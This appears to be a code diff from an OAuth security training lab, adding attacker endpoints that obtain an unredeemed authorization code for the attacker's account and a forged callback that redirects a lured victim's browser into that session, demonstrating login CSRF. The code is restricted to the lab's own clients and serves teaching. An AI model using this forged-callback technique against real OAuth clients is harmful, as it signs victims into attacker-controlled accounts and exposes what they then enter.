@@ -5,6 +5,7 @@ import { errorResponse } from '../http/errors';
 import { identifyRequester, onBehalfOf } from '../http/requester';
 import { FROM_HEADER } from '../trace/roles';
 import { RUN_HEADER, runOf } from '../trace/run';
+import { authorizeAsAttacker } from './attacker-authorize';
 import { lootStore, type LootItem } from './loot';
 import { ATTACKER, PARTY_HEADER } from './party';
 
@@ -154,4 +155,66 @@ export async function callApiAsVictim(request: Request, env: PlaygroundEnv): Pro
       }),
     env,
   );
+}
+
+export const codeRequestSchema = z.object({
+  client_id: z.string().regex(/^lab-[a-z0-9-]+$/, 'client_id must be one of the attack lab’s clients'),
+});
+
+/**
+ * POST /api/attacker/authorization-code: the attacker gets a code for its own account (bob) for the
+ * victim's client, and keeps it unredeemed (login CSRF, RFC 9700 §4.7). Only the lab's clients.
+ */
+export async function obtainAttackerCode(request: Request, env: PlaygroundEnv): Promise<Response> {
+  const learnerId = await learnerOf(request);
+  if (!learnerId) return noLearner();
+  const parsed = codeRequestSchema.safeParse(Object.fromEntries(new URLSearchParams(await request.text())));
+  if (!parsed.success)
+    return errorResponse(
+      400,
+      'invalid_request',
+      parsed.error.issues.map((issue) => issue.message).join('; '),
+    );
+  try {
+    const result = await authorizeAsAttacker(
+      request,
+      env,
+      parsed.data.client_id,
+      `${env.publicOrigin}/callback`,
+    );
+    if (!result.ok) return errorResponse(502, result.error, result.error_description);
+    lootStore().add(learnerId, {
+      kind: 'code',
+      value: result.code,
+      client_id: parsed.data.client_id,
+      how: 'issued to the attacker signed in as bob, not redeemed',
+      run: runOf(request.headers),
+      at: new Date().toISOString(),
+    });
+    return Response.json(
+      { code_for: 'bob', client_id: parsed.data.client_id, redirects_followed: result.hops },
+      { status: 201, headers: { 'cache-control': 'no-store' } },
+    );
+  } catch (error) {
+    return errorResponse(
+      502,
+      'server_unreachable',
+      `The attacker could not reach ${env.internalOrigin}: ${error instanceof Error ? error.message : error}`,
+    );
+  }
+}
+
+/**
+ * GET /api/attacker/forged-callback: the attacker's page the victim is lured to. It sends the victim's
+ * browser to the client's redirect URI with the attacker's code, as if the victim had just signed in.
+ */
+export async function forgedCallback(request: Request, env: PlaygroundEnv): Promise<Response> {
+  const learnerId = await learnerOf(request);
+  if (!learnerId) return noLearner();
+  const code = lootStore().newest(learnerId, 'code', runOf(request.headers));
+  if (!code) return nothingStolen('authorization code');
+  const target = new URL('/callback', env.publicOrigin);
+  target.searchParams.set('code', code.value);
+  target.searchParams.set('iss', `${env.publicOrigin}/oidc`);
+  return new Response(null, { status: 303, headers: { location: target.href, 'cache-control': 'no-store' } });
 }
